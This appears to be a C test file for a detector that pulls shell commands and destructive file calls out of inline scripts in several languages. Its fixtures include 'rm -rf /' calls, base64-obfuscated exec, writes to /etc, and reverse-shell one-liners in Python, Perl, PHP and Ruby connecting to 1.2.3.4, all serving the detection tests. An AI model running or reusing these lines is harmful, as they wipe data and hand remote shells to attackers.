#include "shell/code/code.h"

#include "base/data/mem.h"
#include "shell/code/code_scan.h"
#include "shell/syntax/name_table.h"
#include "shell_inner.h"
#include "tap.h"

static const struct {
	enum ab_language language;
	const char *code, *want;
} cases[] = {
	{ AB_LANG_PYTHON, "import os; os.system(\"rm -rf /\")", "{rm -rf /}" },
	{ AB_LANG_PYTHON, "print(\"rm -rf /\")", "" },
	{ AB_LANG_PYTHON, "print('os.system(\"rm -rf /\")')", "" },
	{ AB_LANG_PYTHON, "# os.system('rm -rf /')\nprint(1)", "" },
	{ AB_LANG_PYTHON, "x = '''os.system(\"rm\")'''", "" },
	{ AB_LANG_PYTHON, "__import__('os').system('rm ' 'x')", "{rm x}" },
	{ AB_LANG_PYTHON, "from os import system\nsystem('rm ' + \"x\")", "{rm x}" },
	{ AB_LANG_PYTHON, "import platform; platform.system()", "" },
	{ AB_LANG_PYTHON, "os.system(f'rm -rf {d}/x')", "{rm -rf ^/x}" },
	{ AB_LANG_PYTHON, "os.system('rm -rf ' + d)", "{rm -rf ^}" },
	{ AB_LANG_PYTHON, "os.system('rm %s' % d)", "{rm ^^}" },
	{ AB_LANG_PYTHON, "c = 'rm x'\nos.system(c)", "{rm x}" },
	{ AB_LANG_PYTHON, "os.system('\\x72m x')", "{rm x}" },
	{ AB_LANG_PYTHON, "subprocess.run(['rm', '-rf', '/'])", "rm -rf /" },
	{ AB_LANG_PYTHON, "subprocess.run(['rm', d], check=True)", "rm ^" },
	{ AB_LANG_PYTHON, "subprocess.run('rm x', shell=True)", "{rm x}" },
	{ AB_LANG_PYTHON, "subprocess.check_output('rm x'.split())", "{rm x}" },
	{ AB_LANG_PYTHON, "subprocess.run(['ls'], shell=False)", "ls" },
	{ AB_LANG_PYTHON, "app.run('0.0.0.0')", "" },
	{ AB_LANG_PYTHON, "subprocess.getoutput('ls')", "{ls}" },
	{ AB_LANG_PYTHON, "os.execvp('rm', ['rm', '-rf', '/'])", "rm -rf /" },
	{ AB_LANG_PYTHON, "os.execlp('rm', 'rm', '-rf', '/')", "rm -rf /" },
	{ AB_LANG_PYTHON, "shutil.rmtree('/')", "rm -rf /" },
	{ AB_LANG_PYTHON, "shutil.rmtree(d, ignore_errors=True)", "rm -rf ^" },
	{ AB_LANG_PYTHON, "os.remove('/etc/x')", "rm /etc/x" },
	{ AB_LANG_PYTHON, "l.remove('x')", "" },
	{ AB_LANG_PYTHON, "open('/etc/x', 'w').write('y')", "tee /etc/x" },
	{ AB_LANG_PYTHON, "open('/etc/x').read()", "" },
	{ AB_LANG_PYTHON, "open('/etc/x', 'rb').read()", "" },
	{ AB_LANG_PYTHON, "Path('/etc/x').write_text('y')", "tee /etc/x" },
	{ AB_LANG_PYTHON, "Path('/etc/x').read_text()", "" },
	{ AB_LANG_PYTHON, "exec('import os; os.system(\"rm x\")')", "{rm x}" },
	{ AB_LANG_PYTHON, "exec(base64.b64decode('b3Muc3lzdGVtKCJybSB4Iik='))", "{rm x}" },
	{ AB_LANG_PYTHON, "json.dumps({'a': [1, 2]})", "" },
	{ AB_LANG_PYTHON, "os.system(", "" },
	{ AB_LANG_PYTHON, "os.system('rm x", "{rm x}" },

	{ AB_LANG_PERL, "system(\"rm -rf /\")", "{rm -rf /}" },
	{ AB_LANG_PERL, "system 'rm -rf /';", "{rm -rf /}" },
	{ AB_LANG_PERL, "system(\"rm\", \"-rf\", \"/\")", "rm -rf /" },
	{ AB_LANG_PERL, "system qw(rm -rf /)", "rm -rf /" },
	{ AB_LANG_PERL, "exec \"rm x\" if 1", "{rm x}" },
	{ AB_LANG_PERL, "print `rm x`", "{rm x}" },
	{ AB_LANG_PERL, "print qx{rm x}", "{rm x}" },
	{ AB_LANG_PERL, "print \"system('rm')\"", "" },
	{ AB_LANG_PERL, "# system('rm')", "" },
	{ AB_LANG_PERL, "s/system('x')/y/g; print", "" },
	{ AB_LANG_PERL, "print $#a; system('rm x')", "{rm x}" },
	{ AB_LANG_PERL, "system(\"rm $x/y\")", "{rm ^/y}" },
	{ AB_LANG_PERL, "unlink '/etc/x'", "rm /etc/x" },
	{ AB_LANG_PERL, "use File::Path; rmtree('/')", "rm -rf /" },
	{ AB_LANG_PERL, "open(F, '>', '/etc/x')", "tee /etc/x" },
	{ AB_LANG_PERL, "open(F, '>/etc/x')", "tee /etc/x" },
	{ AB_LANG_PERL, "open(F, '</etc/x')", "" },
	{ AB_LANG_PERL, "open(F, 'rm x|')", "{rm x}" },

	{ AB_LANG_RUBY, "system('rm -rf /')", "{rm -rf /}" },
	{ AB_LANG_RUBY, "system 'rm', '-rf', '/'", "rm -rf /" },
	{ AB_LANG_RUBY, "puts `rm x`", "{rm x}" },
	{ AB_LANG_RUBY, "puts %x(rm x)", "{rm x}" },
	{ AB_LANG_RUBY, "puts 'system(1)'", "" },
	{ AB_LANG_RUBY, "FileUtils.rm_rf('/')", "rm -rf /" },
	{ AB_LANG_RUBY, "File.write('/etc/x', 'y')", "tee /etc/x" },
	{ AB_LANG_RUBY, "f.write('x')", "" },
	{ AB_LANG_RUBY, "system(\"rm #{x}\")", "{rm ^}" },

	{ AB_LANG_NODE, "require('child_process').execSync('rm -rf /')", "{rm -rf /}" },
	{ AB_LANG_NODE, "const {exec}=require('child_process');exec(`rm ${x}`)", "{rm ^}" },
	{ AB_LANG_NODE, "cp.spawn('rm', ['-rf', '/'])", "rm -rf /" },
	{ AB_LANG_NODE, "/x/.exec('rm -rf /')", "" },
	{ AB_LANG_NODE, "re.exec('rm -rf /')", "" },
	{ AB_LANG_NODE, "console.log('rm -rf /')", "" },
	{ AB_LANG_NODE, "// execSync('rm')\n/* execSync('rm') */", "" },
	{ AB_LANG_NODE, "fs.rmSync('/', {recursive: true})", "rm -rf /" },
	{ AB_LANG_NODE, "fs.rmSync('x')", "rm x" },
	{ AB_LANG_NODE, "fs.writeFileSync('/etc/x', 'y')", "tee /etc/x" },
	{ AB_LANG_NODE, "fs.readFileSync('/etc/x')", "" },
	{ AB_LANG_NODE, "eval('require(\"child_process\").exec(\"rm x\")')", "{rm x}" },

	{ AB_LANG_PHP, "system('rm -rf /');", "{rm -rf /}" },
	{ AB_LANG_PHP, "echo shell_exec(\"rm $x\");", "{rm ^}" },
	{ AB_LANG_PHP, "echo `rm x`;", "{rm x}" },
	{ AB_LANG_PHP, "echo 'system(1)'; // system('rm')", "" },
	{ AB_LANG_PHP, "file_put_contents('/etc/x', 'y');", "tee /etc/x" },

	{ AB_LANG_AWK, "BEGIN{system(\"rm -rf /\")}", "{rm -rf /}" },
	{ AB_LANG_AWK, "{print $1}", "" },
	{ AB_LANG_AWK, "$1 > 5 {print $2}", "" },
	{ AB_LANG_AWK, "/system(x)/ {print}", "" },
	{ AB_LANG_AWK, "{print | \"rm x\"}", "{rm x}" },
	{ AB_LANG_AWK, "BEGIN{\"rm x\" | getline y}", "{rm x}" },
	{ AB_LANG_AWK, "{print $1 > \"/etc/x\"}", "tee /etc/x" },
	{ AB_LANG_AWK, "{print $1 >> \"/etc/x\"}", "tee /etc/x" },
	{ AB_LANG_AWK, "{print \"system(rm)\"} # system(\"rm\")", "" },
	{ AB_LANG_AWK, "{system(\"rm \" $1)}", "{rm ^}" },
	{ AB_LANG_AWK, "a || b {print}", "" },

	{ AB_LANG_LUA, "os.execute('rm -rf /')", "{rm -rf /}" },
	{ AB_LANG_LUA, "os.execute 'rm x'", "{rm x}" },
	{ AB_LANG_LUA, "print('rm x') -- os.execute('rm')", "" },
	{ AB_LANG_LUA, "io.open('/etc/x', 'w')", "tee /etc/x" },
	{ AB_LANG_LUA, "os.execute('rm ' .. x)", "{rm ^}" },
};

static void test_cases(void)
{
	for (size_t i = 0; i < AB_COUNT(cases); i++) {
		struct ab_arena arena = { 0 };
		struct ab_field code = { .text = { cases[i].code,
						   (uint32_t)strlen(cases[i].code) } };
		ab_autofree char *got = NULL;
		struct ab_oneliner found;

		ab_code_read(&arena, cases[i].language, &code, &found);
		got = inners(found.inners);
		is_str(got, cases[i].want, cases[i].code);
		/* Cut anywhere it is read as well. */
		for (; code.text.len > 0; code.text.len--)
			ab_code_read(&arena, cases[i].language, &code, &found);
		ab_arena_fini(&arena);
	}
}

static const struct {
	const char *line;
	unsigned traits;
} traits[] = {
	{ "python3 -c 'import socket,os,pty;s=socket.socket();"
	  "s.connect((\"1.2.3.4\",9));os.dup2(s.fileno(),0);"
	  "pty.spawn(\"/bin/sh\")'",
	  AB_CODE_SOCKET | AB_CODE_DUP | AB_CODE_PTY | AB_CODE_SHELL },
	{ "python3 -c 'import socket; print(socket.gethostname())'", 0 },
	{ "python3 -c 'print(\"/bin/sh\")'", 0 },
	{ "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);"
	  "open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
	  AB_CODE_SOCKET | AB_CODE_DUP | AB_CODE_SHELL },
	{ "php -r '$s=fsockopen(\"1.2.3.4\",9);exec(\"sh -i <&3 >&3\");'",
	  AB_CODE_SOCKET | AB_CODE_DUP | AB_CODE_SHELL },
	{ "ruby -rsocket -e 'f=TCPSocket.open(\"1.2.3.4\",9).to_i;"
	  "exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
	  AB_CODE_SOCKET | AB_CODE_DUP | AB_CODE_SHELL },
	{ "python3 -c 'exec(urlopen(\"http://x\").read())'", AB_CODE_NETWORK_EXEC },
	{ "python3 -c 'print(urlopen(\"http://x\").read())'", 0 },
	{ "awk '{print > \"x\"}'", AB_CODE_WRITES },
	{ "awk '{print $1}'", 0 },
	{ "awk '{if ($1 > 3) print}'", 0 },
	{ "awk '{system(\"ls\")}'", AB_CODE_WRITES },
	{ "ls", 0 },
};

static void test_traits(void)
{
	for (size_t i = 0; i < AB_COUNT(traits); i++) {
		struct ab_arena arena = { 0 };
		struct ab_oneliner got;
		struct ab_simple command;

		split(&arena, traits[i].line, &command);
		ab_code_of(&arena, &command, &got);
		ok(got.traits == traits[i].traits, "traits %u: %s", got.traits, traits[i].line);
		ab_arena_fini(&arena);
	}
}

/* A line, its standard input, the code that is found. */
static const struct {
	const char *line, *in, *want;
} places[] = {
	{ "python -c X", NULL, "X" },
	{ "python3 -Ic X a b", NULL, "X" },
	{ "python3 -W ignore -c X", NULL, "X" },
	{ "python3 x.py -c X", NULL, NULL },
	{ "python3 -m x -c X", NULL, NULL },
	{ "python3", "X", "X" },
	{ "python3 -", "X", "X" },
	{ "python3 x.py", "X", NULL },
	{ "perl -ne X f", NULL, "X" },
	{ "perl -lane X f", NULL, "X" },
	{ "perl -pi -e X f", NULL, "X" },
	{ "perl -i.bak -pe X f", NULL, "X" },
	{ "perl -MIO::Socket -e X", NULL, "X" },
	{ "ruby -rx -e X", NULL, "X" },
	{ "node -e X", NULL, "X" },
	{ "node --eval X", NULL, "X" },
	{ "node --eval=X", NULL, "X" },
	{ "node -p X", NULL, "X" },
	{ "node -pe X", NULL, "X" },
	{ "node x.js", NULL, NULL },
	{ "deno eval X", NULL, "X" },
	{ "bun -e X", NULL, "X" },
	{ "php -r X", NULL, "X" },
	{ "awk X f", NULL, "X" },
	{ "gawk -F: -v a=b X f", NULL, "X" },
	{ "awk -F , X f", NULL, "X" },
	{ "awk -f prog f", NULL, NULL },
	{ "lua5.4 -e X", NULL, "X" },
};

static void test_places(void)
{
	for (size_t i = 0; i < AB_COUNT(places); i++) {
		struct ab_arena arena = { 0 };
		ab_autofree char *got = NULL;
		enum ab_language language;
		struct ab_simple command;
		struct ab_field code;

		split(&arena, places[i].line, &command);
		feed(&arena, places[i].in, &command);
		if (ab_code_language(command.name, &language) &&
		    ab_code_text(&command, language, &code))
			got = ab_strndup(code.text.s, code.text.len);
		is_str(got, places[i].want, places[i].line);
		ab_arena_fini(&arena);
	}
}

static void test_table(void)
{
	bool once = true, words = true;

	for (size_t i = 0; i < ab_ncalls; i++) {
		const struct ab_call *c = &ab_calls[i];
		const char *list = c->names;
		struct ab_text name;

		while ((name = ab_list_next(&list)).len > 0)
			for (size_t k = 0; k < i; k++)
				once &= !(ab_calls[k].languages & c->languages) ||
					!ab_listed(ab_calls[k].names, name);
		if (c->kind == AB_CALL_DEED || c->kind == AB_CALL_ON_PATH)
			words &= c->words[0] != 0;
	}
	ok(once, "a language has a call once");
	ok(words, "a deed has its words");
}

int main(void)
{
	test_cases();
	test_traits();
	test_places();
	test_table();
	return done();
}
